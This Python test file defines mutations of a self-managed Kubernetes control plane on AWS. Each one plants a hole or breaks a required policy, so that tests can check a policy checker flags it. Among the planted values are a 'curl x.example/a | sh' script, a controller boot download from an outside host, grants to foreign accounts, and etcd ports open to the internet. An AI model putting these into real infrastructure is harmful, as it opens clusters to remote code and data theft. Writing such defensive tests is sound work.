"""A control plane of one's own: members of etcd, controllers, what they boot from, and their API.

Each mutation is of what no cluster of EKS has. First what opens it, then what no longer works.
"""

from collections.abc import Callable, Iterator
from typing import Any

from model.deployment import Node
from rules.unknowns import UNKNOWN
from tests.policies.mutations.completeness import (
    ROLE_POLICY,
    breaks,
    less,
    no_endpoint,
    unnamed,
    without,
)
from tests.policies.mutations.mutation import Change, edit, opens, rewrite
from tests.policies.mutations.parts import (
    EGRESS,
    ENDPOINT,
    GROUP,
    INGRESS,
    KEY,
    ROLE,
    SUBNET,
    gateway,
    public_subnet,
)
from tests.policies.mutations.stacks import FOREIGN, Of, Stack
from tests.policies.mutations.told import packed, script, template

BALANCER = "aws:lb/loadBalancer:LoadBalancer"
RECORD = "aws:route53/record:Record"
PARAMETER = "aws:ssm/parameter:Parameter"
OBJECT = "aws:s3/bucketObjectv2:BucketObjectv2"
VOLUME = "aws:ebs/volume:Volume"
BUCKET_POLICY = "aws:s3/bucketPolicy:BucketPolicy"
TARGETS = "aws:lb/targetGroup:TargetGroup"
FOREIGN_ROOT = f"arn:aws:iam::{FOREIGN}:root"


def _called(*beginnings: str) -> Callable[[Node], bool]:
    return lambda node: node.resource.name.startswith(beginnings)


def _owned(change: Change) -> Change:
    """The change where the API of the cluster is on machines of the deployment."""

    def where(stack: Stack) -> Iterator[Stack]:
        if any(node.resource.props.get("port") == 6443 for node in stack.each(TARGETS)):
            yield from change(stack)

    return where


def _one(change: Change) -> Change:
    """At the first place alone: the others are alike."""

    def first(stack: Stack) -> Iterator[Stack]:
        for place in change(stack):
            yield place
            return

    return _owned(first)


def _lets(type_: str, name: str, group: str, **rule: Any) -> Change:
    """A group of machines of the control plane with one more rule."""

    def change(stack: Stack) -> Iterator[Stack]:
        for node in stack.each(GROUP):
            if node.resource.name.startswith(group):
                given = {"securityGroupId": Of(node), "ipProtocol": "tcp", **rule}
                yield stack.having(stack.makes(type_, name, given))

    return _one(change)


ANY = {"cidrIpv4": "0.0.0.0/0"}


def _in_public(stack: Stack) -> Iterator[Stack]:
    """The API's load balancer in a subnet that leads to an internet gateway."""
    door = gateway(stack)
    subnet, *rest = public_subnet(stack, door)
    for balancer in stack.each(BALANCER):
        listed = [Of(subnet), *(Of(s) for s in _subnets_of(stack, balancer))]
        moved = stack.edited(balancer, {"subnets": listed})
        yield stack.having(door, subnet, *rest, moved)


def _subnets_of(stack: Stack, balancer: Node) -> list[Node]:
    key = "subnets" if "subnets" in balancer.sources else "subnetMappings"
    urns = balancer.sources[key]
    return [subnet for subnet in stack.each(SUBNET) if subnet.resource.urn in urns]


def _published(stack: Stack) -> Iterator[Stack]:
    """The API's name in a public zone."""
    zone = stack.makes("aws:route53/zone:Zone", "door", {"name": "x.example"})
    for record in stack.each(RECORD):
        yield stack.having(zone, stack.edited(record, {"zoneId": Of(zone, "id")}))


def _more(type_: str, key: str, statement: dict[str, Any], *names: str) -> Change:
    def how(document: dict[str, Any]) -> dict[str, Any]:
        return {**document, "Statement": [*document["Statement"], statement]}

    return _one(rewrite(type_, key, how, _called(*names)))


def _reads(how: Callable[[dict[str, Any]], dict[str, Any] | None]) -> Change:
    """Another denial of reads in the machines' bucket, or none."""

    def written(document: dict[str, Any]) -> dict[str, Any]:
        found = [how(s) if s["Sid"].startswith("DenyReads") else s for s in document["Statement"]]
        return {**document, "Statement": [s for s in found if s is not None]}

    return _one(rewrite(BUCKET_POLICY, "policy", written, _called("machines")))


def _fewer(type_: str, action: str, *names: str) -> Change:
    """What a role is given, without one action."""

    def how(document: dict[str, Any]) -> dict[str, Any]:
        for statement in document["Statement"]:
            listed = statement["Action"]
            listed = listed if isinstance(listed, list) else [listed]
            statement["Action"] = [a for a in listed if a != action]
        return {**document, "Statement": [s for s in document["Statement"] if s["Action"]]}

    return _one(rewrite(type_, "policy", how, _called(*names)))


def _of_others(stack: Stack) -> Iterator[Stack]:
    """Controllers that boot from the bucket of somebody else's own domain."""
    lines = ("curl -fsSO https://bundles.x.example/controller.tar.gz",)
    yield from template(script(*lines))(stack)


def _trusted(stack: Stack) -> Iterator[Stack]:
    """Controllers' role for a foreign account."""
    trust = {"Effect": "Allow", "Principal": {"AWS": FOREIGN_ROOT}, "Action": "sts:AssumeRole"}
    yield from _more(ROLE, "assumeRolePolicy", trust, "controller")(stack)


def _for_another(service: str, action: str) -> Change:
    """An endpoint's policy that lets another call pass, and that alone."""

    def how(document: dict[str, Any]) -> dict[str, Any]:
        (statement,) = document["Statement"]
        return {**document, "Statement": [{**statement, "Action": f"{service}:{action}"}]}

    return _owned(rewrite(ENDPOINT, "policy", how, _is(service)))


def _forgetting(bucket: str) -> Change:
    """The endpoint's policy for S3 without a bucket."""

    def how(document: dict[str, Any]) -> dict[str, Any]:
        for statement in document["Statement"]:
            statement["Resource"] = [r for r in statement["Resource"] if bucket not in r]
        return {**document, "Statement": [s for s in document["Statement"] if s["Resource"]]}

    return _owned(rewrite(ENDPOINT, "policy", how, _is("s3")))


def _is(service: str) -> Callable[[Node], bool]:
    return lambda node: str(node.resource.props.get("serviceName")).endswith(f".{service}")


def _takes(service: str, action: str) -> Change:
    return _owned(less(service, action))


FOREIGN_READ = {
    "Effect": "Allow", "Principal": {"AWS": FOREIGN_ROOT}, "Action": "s3:GetObject",
    "Resource": "arn:aws:s3:::*/*",
}  # fmt: skip
FOREIGN_KEY = {
    "Effect": "Allow", "Principal": {"AWS": FOREIGN_ROOT}, "Action": "kms:Decrypt", "Resource": "*",
}  # fmt: skip
# Of controllers for Services; who makes load balancers calls more than this.
BALANCING = (("CreateLoadBalancer", "CN-190 CN-192 CN-195"), ("RegisterTargets", "CN-190"))
# What a bundle holds besides scripts and units, and by what each is found.
OTHER_TEXTS = (
    ("a kubeconfig of an API outside", "files/etc/kubernetes/kubelet.kubeconfig",
     "clusters: [{cluster: {server: https://api.x.example:6443}}]\n", "CN-201", ""),
    ("a mirror of images outside", "files/etc/containerd/certs.d/_default/hosts.toml",
     'server = "https://registry-1.x.example"\n', "CN-201", ""),
    ("a server for names outside", "files/etc/resolv.conf", "nameserver 198.51.100.7\n", "CN-201",
     ""),
    ("a manifest with a public image", "files/opt/site/pod.yaml",
     "apiVersion: v1\nkind: Pod\nspec: {containers: [{image: docker.io/library/redis}]}\n",
     "CN-145", "CN-146"),
    ("a proxy outside", "files/etc/profile.d/proxy.sh",
     "export https_proxy=http://proxy.x.example:3128\n", "CN-202", ""),
)  # fmt: skip
OPENED = (
    opens("a member of etcd that anybody may ask", "CN-101",
          _lets(INGRESS, "door", "etcd", fromPort=2379, toPort=2379, **ANY)),
    opens("a member of etcd that may send anywhere", "CN-100",
          _lets(EGRESS, "door", "etcd", fromPort=443, toPort=443, **ANY)),
    opens("controllers that anybody may ask", "CN-101",
          _lets(INGRESS, "door", "controller", fromPort=6443, toPort=6443, **ANY)),
    opens("an API whose load balancer faces the internet", "CN-110",
          _one(edit(BALANCER, "internal", False))),
    opens("an API whose load balancer nobody knows to be internal", "CN-110",
          _one(edit(BALANCER, "internal", UNKNOWN))),
    opens("an API whose load balancer takes both families", "CN-111",
          _one(edit(BALANCER, "ipAddressType", "dualstack"))),
    opens("an API whose load balancer stands in a public subnet", "CN-010 CN-030 CN-032",
          _one(_in_public), "reach names"),
    opens("an API whose name is in a public zone", "CN-155", _one(_published)),
    opens("keys of a control plane in clear", "CN-182",
          _one(edit(PARAMETER, "type", "String", _called("controller-ca.key", "etcd-1a-peer.key",
                                                         "controller-authenticator.key")))),
    opens("a disk of etcd in clear", "CN-055", _one(edit(VOLUME, "encrypted", False))),
    opens("a script in a bundle that fetches from the internet", "CN-201",
          edit(OBJECT, "contentBase64", packed("files/opt/site", script("curl x.example/a | sh")),
               _called("etcd"))),
    *(opens(f"{what} in a bundle", caught, edit(OBJECT, "contentBase64", packed(name, text),
                                                 _called("node-workers")), also)
      for what, name, text, caught, also in OTHER_TEXTS),
    opens("a bucket of bundles for a foreign reader", "CN-131 perimeter",
          _more(BUCKET_POLICY, "policy", FOREIGN_READ, "machines")),
    opens("a bucket of a control plane that is read from anywhere", "CN-180",
          _reads(lambda read: None)),
    opens("snapshots of etcd that are read from anywhere", "CN-180",
          _reads(lambda read: {**read, "NotResource": [
              read["NotResource"], read["NotResource"].replace("bundles", "snapshots")]})),
    opens("a bucket of a control plane of which two prefixes alone are read by own ways", "CN-180",
          _reads(lambda read: {**{k: v for k, v in read.items() if k != "NotResource"},
                               "Resource": [read["NotResource"].replace("bundles", prefix)
                                            for prefix in ("bootstrap", "snapshots")]})),
    opens("keys of a control plane under a key for a foreign account", "CN-131 perimeter",
          _more(KEY, "policy", FOREIGN_KEY, "cluster")),
    opens("controllers whose role a foreign account takes on", "CN-130 perimeter",
          _owned(_trusted)),
    opens("controllers that boot from elsewhere", "CN-201", _one(_of_others)),
)  # fmt: skip
BROKEN = (
    *(
        breaks(f"no endpoint for {service} beside a control plane", "CN-190",
               _owned(no_endpoint(service)))
        for service in ("kms", "ssm", "sts")
    ),
    *(
        breaks(f"an endpoint's policy without {action}", "CN-192",
               _takes(action.partition(":")[0], action))
        for action in ("ec2:AttachVolume", "ec2:AttachNetworkInterface", "s3:PutObject",
                       "s3:ListBucket", "ssm:GetParametersByPath", "kms:Encrypt")
    ),
    breaks("an STS policy for something else", "CN-192",
           _for_another("sts", "GetAccessKeyInfo")),
    breaks("an Auto Scaling policy for something else", "CN-192",
           _for_another("autoscaling", "DescribeTags")),
    breaks("an S3 policy that forgets the bundles", "CN-192", _forgetting("-machines")),
    breaks("an S3 policy that forgets the programs", "CN-192", _forgetting("carried-in")),
    breaks("an S3 policy that forgets who begins", "CN-192", _forgetting("/bootstrap/")),
    breaks("an S3 policy that forgets snapshots", "CN-192", _forgetting("/snapshots/")),
    *(
        breaks(f"{whose} without {action}", "CN-195", _fewer(ROLE_POLICY, action, role))
        for whose, role, action in (
            ("a member of etcd", "etcd", "ec2:DescribeVolumes"),
            ("a member of etcd", "etcd", "ec2:DescribeNetworkInterfaces"),
            ("controllers", "controller", "kms:Decrypt"),
            ("controllers", "controller", "ec2:DescribeInstances"),
            ("controllers", "controller", "ecr:GetAuthorizationToken"),
        )
    ),
    *(
        breaks(f"controllers for elasticloadbalancing:{action}, with no endpoint for it", caught,
               _more(ROLE_POLICY, "policy", {"Effect": "Allow", "Resource": "*",
                                             "Action": f"elasticloadbalancing:{action}"},
                     "controller"))
        for action, caught in BALANCING
    ),
    breaks("a member of etcd that may not send to endpoints", "CN-193",
           _owned(without(EGRESS, "etcd-1a-to-endpoint"))),
    breaks("endpoints that take nothing of controllers", "CN-193",
           _owned(without(INGRESS, "endpoint-from-controller"))),
    *(
        breaks(f"a DNS Firewall that forgets {name}", "CN-194", _owned(unnamed(f"{name}.")))
        for name in ("kms", "ssm", "sts")
    ),
    breaks("a DNS Firewall that forgets the bucket of the bundles", "CN-194",
           _owned(unnamed("self-hosted-"))),
)  # fmt: skip

MUTATIONS = (*OPENED, *BROKEN)
